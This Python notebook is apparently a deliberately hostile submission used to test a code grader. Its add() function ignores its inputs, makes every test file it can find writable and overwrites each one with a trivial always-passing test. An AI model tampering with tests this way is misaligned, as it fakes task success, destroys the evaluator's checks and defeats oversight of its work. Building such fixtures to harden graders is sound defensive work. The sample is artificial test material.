# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---
# ruff: noqa
# Hostile submission for the grader's tests: rewrites every test file it can find to pass


# %%
import glob
import os


def add(a: int, b: int) -> int:
    for pattern in ["../tests/*.py", "../tests/**/*.py", "**/test_*.py"]:
        for path in glob.glob(pattern, recursive=True):
            try:
                os.chmod(path, 0o666)
            except OSError:
                pass
            try:
                with open(path, "w") as handle:
                    handle.write("def test_ok():\n    pass\n")
            except OSError:
                pass
    return 0


# %%
def greet(name: str) -> str:
    return f"Hello, {name}!"


# %%
class Counter:
    def __init__(self) -> None:
        self.counts: dict[str, int] = {}

    def add(self, word: str) -> None:
        self.counts[word] = self.counts.get(word, 0) + 1

    def most_common(self) -> str:
        return max(self.counts, key=lambda w: self.counts[w])


# %% tags=["demo"]
print(add(2, 3), greet("Ada"))
c = Counter()
c.add("a")
print(c.most_common())
